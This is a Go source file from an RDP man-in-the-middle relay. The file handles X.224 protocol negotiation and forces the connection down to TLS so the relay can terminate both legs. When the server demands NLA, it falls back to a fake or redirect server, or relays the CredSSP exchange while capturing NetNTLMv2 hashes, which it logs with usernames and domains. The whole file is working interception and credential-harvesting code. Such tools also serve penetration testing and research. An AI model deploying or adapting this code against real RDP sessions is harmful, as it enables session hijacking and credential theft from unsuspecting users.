// RDP MITM Go - Intercepting relay for RDP sessions
// Copyright (C) 2025 - Pepijn van der Stap, pepijn@neosecurity.nl
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published
// by the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU Affero General Public License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.

package mitm

import (
	"fmt"
	"log/slog"
	"net"
	"strconv"

	"github.com/x-stp/rdp-mitm-go/internal/config"
	"github.com/x-stp/rdp-mitm-go/internal/logger"
	"github.com/x-stp/rdp-mitm-go/pkg/rdp"
	"github.com/x-stp/rdp-mitm-go/pkg/rdp/codec"
	"github.com/x-stp/rdp-mitm-go/pkg/recording"
)

// x224Observer drives connection negotiation from the X.224 TPDUs of one
// side.
type x224Observer struct {
	s    *Session
	side Side
}

func (o *x224Observer) OnConnectionRequest(cr *rdp.X224ConnectionRequest) error {
	if o.side != SideClient {
		return fmt.Errorf("%w: connection request from the server", codec.ErrMalformed)
	}
	return o.s.connectionRequested(cr)
}

func (o *x224Observer) OnConnectionConfirm(cc *rdp.X224ConnectionConfirm) error {
	if o.side != SideServer {
		return fmt.Errorf("%w: connection confirm from the client", codec.ErrMalformed)
	}
	return o.s.connectionConfirmed(cc)
}

func (o *x224Observer) OnDisconnectRequest(dr *rdp.X224DisconnectRequest) error {
	s := o.s
	s.log.Info("Disconnect request", logger.Leg(o.side.String()))
	s.peers[o.side.Peer()].x224.SendDisconnectRequest(dr)
	s.disconnectSent = true
	s.shutdown(nil)
	return nil
}

func (o *x224Observer) OnError(er *rdp.X224Error) error {
	return fmt.Errorf("X.224 error TPDU from %s (cause %d)", o.side, er.Cause)
}

// supportedProtocols is the set the relay can terminate on both legs.
// CredSSP is only ever relayed, by the capture fallback.
func (s *Session) supportedProtocols() uint32 {
	var p uint32
	if s.app.Config.Auth.Allows(config.ProtocolSSL) {
		p |= rdp.PROTOCOL_SSL
	}
	return p
}

func (s *Session) connectionRequested(cr *rdp.X224ConnectionRequest) error {
	if s.state.State != StateIdle {
		return fmt.Errorf("%w: connection request in state %s", codec.ErrMalformed, s.state.State)
	}
	// the client waits for the confirm; nothing more is read until the
	// negotiation (and any TLS upgrade) is done
	s.client().leg.Pause()
	s.state.State = StateConnectionRequested

	requested := cr.RequestedProtocols()
	s.state.RequestedProtocols = requested
	protocols := requested & s.supportedProtocols()
	s.log.Info("Connection requested",
		slog.String("requested", rdp.ProtocolName(requested)),
		slog.String("relayed", rdp.ProtocolName(protocols)))

	if protocols == rdp.PROTOCOL_RDP && !s.app.Config.Auth.Allows(config.ProtocolRDP) {
		s.client().x224.SendConnectionConfirm(&rdp.X224ConnectionConfirm{
			SrcRef:     cr.SrcRef,
			NegFailure: rdp.NewRDPNegFailure(rdp.SSL_REQUIRED_BY_SERVER),
		})
		s.metrics.Negotiated("failed")
		return fmt.Errorf("%w: client offers no allowed protocol", ErrNegotiationFailed)
	}

	s.requested = cr.Clone()
	s.narrowed = cr.Clone()
	if s.narrowed.NegReq != nil {
		s.narrowed.NegReq.Protocols = protocols
	}
	return s.server().x224.SendConnectionRequest(s.narrowed)
}

// nlaRequired reports whether a negotiation failure means the server only
// accepts CredSSP.
func nlaRequired(f *rdp.RDPNegFailure) bool {
	return f.FailureCode == rdp.HYBRID_REQUIRED_BY_SERVER ||
		f.FailureCode == rdp.SSL_WITH_USER_AUTH_REQUIRED_BY_SERVER
}

func (s *Session) connectionConfirmed(cc *rdp.X224ConnectionConfirm) error {
	if s.state.State != StateConnectionRequested {
		return fmt.Errorf("%w: connection confirm in state %s", codec.ErrMalformed, s.state.State)
	}
	if cc.NegFailure != nil {
		s.log.Info("Server refused negotiation", slog.String("reason", rdp.FailureReason(cc.NegFailure.FailureCode)))
		if nlaRequired(cc.NegFailure) {
			return s.fallback(cc)
		}
		s.client().x224.SendConnectionConfirm(cc)
		s.metrics.Negotiated("failed")
		return fmt.Errorf("%w: %s", ErrNegotiationFailed, rdp.FailureReason(cc.NegFailure.FailureCode))
	}

	selected := uint32(rdp.PROTOCOL_RDP)
	if cc.NegRsp != nil {
		selected = cc.NegRsp.Protocols
	}
	capturing := s.state.Fallback == config.FallbackCapture
	if rdp.IsNLAProtocol(selected) && !(capturing && selected == rdp.PROTOCOL_HYBRID) {
		return fmt.Errorf("%w: server selected %s which was not offered", ErrNegotiationFailed, rdp.ProtocolName(selected))
	}
	s.state.SelectedProtocol = selected
	s.state.State = StateNegotiatedProtocol
	s.metrics.Negotiated(rdp.ProtocolName(selected))
	s.log.Info("Protocol negotiated", logger.Protocol(rdp.ProtocolName(selected)))

	if s.state.TLS() {
		return s.upgradeTLS(cc)
	}
	if err := s.client().x224.SendConnectionConfirm(cc); err != nil {
		return err
	}
	s.client().leg.Resume()
	return nil
}

// upgradeTLS runs both TLS handshakes before the client sees the confirm:
// first toward the server, then the confirm is sent and the client's
// handshake accepted. Both legs stay paused until the last one completes.
func (s *Session) upgradeTLS(cc *rdp.X224ConnectionConfirm) error {
	server := s.server()
	server.leg.Pause()
	if n := server.seg.Buffered(); n > 0 {
		return fmt.Errorf("%w: %d bytes after connection confirm", codec.ErrMalformed, n)
	}
	conn := server.leg.Conn()
	cfg := s.app.TLSConfig(s.serverHost)
	s.group.Go(func() error {
		tlsConn, err := rdp.UpgradeServerLeg(conn, cfg)
		posted := s.loop.Post(func() {
			if err != nil {
				s.fail(fmt.Errorf("TLS handshake with server: %w", err))
				return
			}
			if s.state.State == StateClosed || server != s.server() {
				tlsConn.Close()
				return
			}
			server.leg.SetConn(tlsConn)
			s.log.Debug("Server TLS established", slog.String("version", rdp.TLSVersionString(tlsConn.ConnectionState().Version)))
			if err := s.client().x224.SendConnectionConfirm(cc); err != nil {
				s.closeFrom(SideClient, err)
				return
			}
			s.upgradeClient(func() {
				if rdp.IsNLAProtocol(s.state.SelectedProtocol) {
					s.startNLACapture()
				}
				server.leg.Resume()
			})
		})
		if !posted && tlsConn != nil {
			tlsConn.Close()
		}
		return nil
	})
	return nil
}

// upgradeClient accepts the client's TLS handshake, then runs then and
// resumes the client leg.
func (s *Session) upgradeClient(then func()) {
	client := s.client()
	conn := client.leg.Conn()
	cfg := s.app.TLSConfig(s.serverHost)
	s.group.Go(func() error {
		tlsConn, err := rdp.UpgradeClientLeg(conn, cfg)
		posted := s.loop.Post(func() {
			if err != nil {
				s.closeFrom(SideClient, fmt.Errorf("TLS handshake with client: %w", err))
				return
			}
			if s.state.State == StateClosed {
				tlsConn.Close()
				return
			}
			client.leg.SetConn(tlsConn)
			s.log.Debug("Client TLS established", slog.String("version", rdp.TLSVersionString(tlsConn.ConnectionState().Version)))
			then()
			client.leg.Resume()
		})
		if !posted && tlsConn != nil {
			tlsConn.Close()
		}
		return nil
	})
}

// fallback handles a server that insists on CredSSP. The first enabled entry
// of the configured order is taken, at most once per session.
func (s *Session) fallback(cc *rdp.X224ConnectionConfirm) error {
	nla := s.app.Config.NLA
	if s.state.Fallback == "" {
		for _, name := range nla.FallbackOrder {
			if !nla.Enabled(name) {
				continue
			}
			switch name {
			case config.FallbackFakeServer:
				return s.reconnect(name, net.JoinHostPort(nla.FakeServer.Host, strconv.Itoa(nla.FakeServer.Port)), s.narrowed)
			case config.FallbackRedirect:
				return s.reconnect(name, net.JoinHostPort(nla.Redirect.Host, strconv.Itoa(nla.Redirect.Port)), s.narrowed)
			case config.FallbackCapture:
				if s.state.RequestedProtocols&rdp.PROTOCOL_HYBRID != 0 {
					return s.captureNLA()
				}
				s.log.Debug("Client does not offer CredSSP, capture skipped")
			}
		}
	}

	s.client().x224.SendConnectionConfirm(cc)
	s.metrics.Negotiated("failed")
	return fmt.Errorf("%w: server requires NLA and no fallback is available", ErrNegotiationFailed)
}

// reconnect drops the server leg and sends cr to address on a new one. The
// client leg stays paused meanwhile.
func (s *Session) reconnect(name, address string, cr *rdp.X224ConnectionRequest) error {
	s.state.Fallback = name
	s.metrics.Negotiated(name)
	s.log.Warn("Server requires NLA, reconnecting", slog.String("fallback", name), logger.Target(address))
	s.server().leg.Close()

	host, _, _ := net.SplitHostPort(address)
	s.group.Go(func() error {
		conn, err := s.app.Dial(s.ctx, address)
		posted := s.loop.Post(func() {
			if err != nil {
				s.fail(fmt.Errorf("%w: %s fallback: %w", ErrNegotiationFailed, name, err))
				return
			}
			if s.state.State == StateClosed {
				conn.Close()
				return
			}
			p := s.newPeer(SideServer, conn)
			s.peers[SideServer] = p
			s.serverHost = host
			s.group.Go(p.leg.ReadLoop)
			if err := p.x224.SendConnectionRequest(cr); err != nil {
				s.closeFrom(SideServer, err)
			}
		})
		if !posted && conn != nil {
			conn.Close()
		}
		return nil
	})
	return nil
}

// captureNLA lets the client and the real server run CredSSP through the
// relay. The server hangs up after refusing the narrowed request, so the
// client's own request is replayed to the target on a new connection with
// CredSSP left in; HYBRID_EX is removed so no early authorization PDU follows
// the exchange. Both legs are upgraded to TLS as usual once the server
// accepts, and the TSRequests are relayed unchanged while the NTLM messages
// in them are captured.
func (s *Session) captureNLA() error {
	replay := s.requested.Clone()
	replay.NegReq.Protocols = s.state.RequestedProtocols & (rdp.PROTOCOL_SSL | rdp.PROTOCOL_HYBRID)
	return s.reconnect(config.FallbackCapture, s.target, replay)
}

// startNLACapture switches both legs to relaying TSRequests. Runs once TLS is
// up on both legs and before either resumes.
func (s *Session) startNLACapture() {
	s.log.Info("Relaying CredSSP exchange")
	s.nla = NewNLACapture(
		func(to Side, frame []byte) error { return s.peers[to].leg.Write(frame) },
		s.ntlmCaptured,
		s.log,
	)
}

func (s *Session) ntlmCaptured(auth *rdp.NTLMAuthenticate, hash string) {
	s.log.Info("NetNTLMv2 hash captured", logger.Username(auth.User), logger.Domain(auth.Domain), logger.Hash(hash))
	s.recordJSON(recording.EventCredentials, recording.Credentials{
		Source:   "netntlmv2",
		Domain:   auth.Domain,
		Username: auth.User,
		Hash:     hash,
	})
	s.metrics.CredentialsCaptured("netntlmv2")
}

// nlaReceived relays CredSSP bytes from p. When the exchange ends, whatever
// was read past it enters the regular stacks.
func (s *Session) nlaReceived(p *peer, data []byte) error {
	if err := s.nla.Receive(p.side, data); err != nil {
		return err
	}
	if !s.nla.Done() {
		return nil
	}
	rest := s.nla.Remaining()
	s.nla = nil
	s.log.Info("CredSSP exchange completed")
	for side, data := range rest {
		if len(data) == 0 {
			continue
		}
		if err := s.peers[side].main.Receive(data); err != nil {
			return err
		}
	}
	return nil
}
